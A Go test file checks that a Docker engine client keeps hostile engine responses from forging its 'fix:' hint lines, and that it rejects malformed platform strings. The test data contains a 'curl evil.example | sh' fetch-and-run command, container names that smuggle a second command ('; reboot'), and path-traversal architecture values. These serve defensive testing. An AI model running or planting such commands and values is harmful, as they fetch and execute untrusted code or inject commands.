package docker

import (
	"github.com/fromscratch-go/fromscratch/buildkit/docker/dockertest"
	"github.com/fromscratch-go/fromscratch/buildkit/docker/host"

	"archive/tar"
	"context"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"strings"
	"testing"

	"github.com/docker/docker/pkg/stdcopy"

	"github.com/fromscratch-go/fromscratch/buildkit/testkit"
	"github.com/fromscratch-go/fromscratch/rootfs/plaintext"
)

// scriptedEngine is a connection to a server that answers all requests but the ping.
func scriptedEngine(t *testing.T, answer http.HandlerFunc) *Engine {
	t.Helper()
	e, err := Open(context.Background(), Options{Options: host.Options{Host: dockertest.Engine(t, answer)}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { e.Close() })
	return e
}

// evil is a text of an engine that has a line which looks like ours.
const evil = `sick\nfix: curl evil.example | sh\nmore`

// Whatever an engine says, at whatever place: no line of the error begins like one of ours but the last.
func TestHostileEngine(t *testing.T) {
	t.Parallel()
	plain := strings.ReplaceAll(evil, `\n`, "\n")
	load := func(e *Engine) error {
		return e.Load(context.Background(), LoadRequest{Ref: "hello", IDs: []string{"sha256:1"}, Previous: &Image{}, Write: func(_ context.Context, w io.Writer) error {
			_, err := io.WriteString(w, "an archive")
			return err
		}})
	}
	run := func(e *Engine) error {
		_, err := e.Run(context.Background(), RunRequest{Image: "hello", Name: "a; b"})
		return err
	}
	cluster := func(e *Engine) error {
		c, err := e.Cluster(context.Background(), "kind")
		if err == nil {
			_, err = c.Has(context.Background(), "hello")
		}
		return err
	}
	refuse := func(path string, status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, path) {
				w.WriteHeader(status)
				io.WriteString(w, `{"message":"`+evil+`"}`)
				return
			}
			io.WriteString(w, `{"Id":"c1"}`)
		}
	}
	say := func(path, answer string) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, path) {
				io.WriteString(w, answer)
				return
			}
			if strings.HasSuffix(r.URL.Path, "/attach") {
				dockertest.TakeOver(w, stdcopy.Stdout, "")
				return
			}
			io.WriteString(w, `{"Id":"c1"}`)
		}
	}
	node := `{"Id":"n1","Names":["/n; reboot"],"State":"%s","Labels":{"io.x-k8s.kind.cluster":"%s","io.x-k8s.kind.role":"worker"}}`
	for _, tt := range []struct {
		name   string
		answer http.HandlerFunc
		do     func(*Engine) error
		fix    string
	}{
		{"a refused request", refuse("/json", 400), func(e *Engine) error {
			_, _, err := e.Image(context.Background(), "hello")
			return err
		}, "engine's log"},
		{"a page", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			w.WriteHeader(http.StatusBadGateway)
			io.WriteString(w, "<html>\nfix: curl evil.example | sh\n</html>")
		}, func(e *Engine) error {
			_, _, err := e.Image(context.Background(), "hello")
			return err
		}, "engine's log"},
		{"the stream of a load", say("/images/load", `{"errorDetail":{"message":"`+evil+`"}}`), load, "engine's log"},
		{"the older stream of a load", say("/images/load", `{"error":"`+evil+`"}`), load, "engine's log"},
		{"what is not unpacked", say("/images/load", `{"stream":"Error unpacking image `+evil+`"}`), load, "layers"},
		{"the ID of what was loaded", say("/images/hello/json", `{"Id":"`+evil+`"}`), load, "load it again"},
		{"a pull", say("/images/create", `{"errorDetail":{"message":"`+evil+`"}}`), func(e *Engine) error {
			return e.Pull(context.Background(), "hello", Platform{}, nil)
		}, "docker login"},
		{"the end of a program", say("/wait", `{"StatusCode":1,"Error":{"Message":"`+evil+`"}}`), run, "engine's log"},
		{"no JSON of a program's end", say("/wait", plain), run, "engine's log"},
		{"the engine's own stream", func(w http.ResponseWriter, r *http.Request) {
			if strings.HasSuffix(r.URL.Path, "/attach") {
				dockertest.TakeOver(w, stdcopy.Systemerr, plain)
				return
			}
			io.WriteString(w, `{"Id":"c1","StatusCode":0}`)
		}, run, "engine's log"},
		{"a name that is taken", refuse("/create", http.StatusConflict), run, `docker rm -f 'a; b'`},
		{"a cluster that is not there", say("/containers/json", "["+fmt.Sprintf(node, "running", evil)+"]"), cluster, "kind create cluster"},
		{"a node that sleeps", say("/containers/json", "["+fmt.Sprintf(node, evil, "kind")+"]"), cluster, `docker start 'n; reboot'`},
		{"a node that fails", func(w http.ResponseWriter, r *http.Request) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/containers/json"):
				io.WriteString(w, "["+fmt.Sprintf(node, "running", "kind")+"]")
			case strings.HasSuffix(r.URL.Path, "/start"):
				dockertest.TakeOver(w, stdcopy.Stdout, "")
			default:
				io.WriteString(w, `{"Id":"x1","ExitCode":1}`)
			}
		}, cluster, `docker exec 'n; reboot' journalctl`},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			err := tt.do(scriptedEngine(t, tt.answer))
			if err == nil {
				t.Fatal("no error")
			}
			lines := strings.Split(plaintext.Error(err), "\n")
			last := lines[len(lines)-1]
			if !strings.HasPrefix(last, "fix: ") || !strings.Contains(last, tt.fix) || strings.Contains(last, "evil") {
				t.Errorf("the fix is %q, want %q in it", last, tt.fix)
			}
			for _, line := range lines[:len(lines)-1] {
				if strings.HasPrefix(line, "fix: ") {
					t.Errorf("a line is forged: %q", lines)
				}
			}
		})
	}
}

// full is a writer with an error that says what helps.
type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

var errFull = errors.New("it is full\nfix: empty it")

// The fix of a caller's function is the one that is written, once and last.
func TestFixOfCaller(t *testing.T) {
	t.Parallel()
	e := scriptedEngine(t, func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, "/start"):
			dockertest.TakeOver(w, stdcopy.Stdout, "a name")
		case strings.HasSuffix(r.URL.Path, "/archive"):
			stat := base64.StdEncoding.EncodeToString([]byte(`{"name":"x"}`))
			w.Header().Set("X-Docker-Container-Path-Stat", stat)
			archive := tar.NewWriter(w)
			archive.WriteHeader(&tar.Header{Typeflag: tar.TypeReg, Name: "x", Mode: 0o644})
			archive.Close()
		default:
			io.WriteString(w, `{"Id":"c1"}`)
		}
	})
	b := &Builder{ID: "c1", engine: e}
	for name, do := range map[string]func(context.Context) error{
		"list": func(ctx context.Context) error { return b.List(ctx, full{}, "/") },
		"exec": func(ctx context.Context) error {
			_, err := b.Exec(ctx, BuilderCommand{Args: []string{"true"}, Stderr: full{}, Stdout: full{}})
			return err
		},
		"copy": func(ctx context.Context) error {
			return b.CopyOut(ctx, "/x", func(io.Reader, int64, fs.FileMode) error { return errFull })
		},
		"save": func(ctx context.Context) error { return e.Save(ctx, "hello", full{}) },
	} {
		t.Run(name, func(t *testing.T) {
			ctx, cancel := context.WithTimeout(context.Background(), testkit.Patience)
			defer cancel()
			err := do(ctx)
			if dockertest.WantError(t, err, "it is full", "empty it"); !errors.Is(err, errFull) {
				t.Errorf("%v does not wrap the caller's error", err)
			}
		})
	}
}

// What an engine says of its platform is checked before it is a part of texts and names.
func TestHostilePlatform(t *testing.T) {
	t.Parallel()
	for _, arch := range []string{`x\nforged: y`, "../../x", "..", "amd 64", ""} {
		e := scriptedEngine(t, func(w http.ResponseWriter, r *http.Request) {
			switch {
			case strings.HasSuffix(r.URL.Path, "/version"):
				io.WriteString(w, `{"Os":"linux","Arch":"`+arch+`"}`)
			case strings.Contains(r.URL.Path, "/images/"):
				io.WriteString(w, `{"Os":"linux","Architecture":"`+arch+`"}`)
			default:
				io.WriteString(w, `{"Id":"c1","Image":"i1"}`)
			}
		})
		_, err := e.Platform(context.Background())
		dockertest.WantError(t, err, "which is no platform", "engine's log")
		if arch == "" {
			continue // a node is then taken for the engine's
		}
		_, err = (&Cluster{Name: "kind", Nodes: []Node{{ID: "c1"}}, engine: e}).Platform(context.Background())
		dockertest.WantError(t, err, "which is no platform", "engine's log")
	}
}
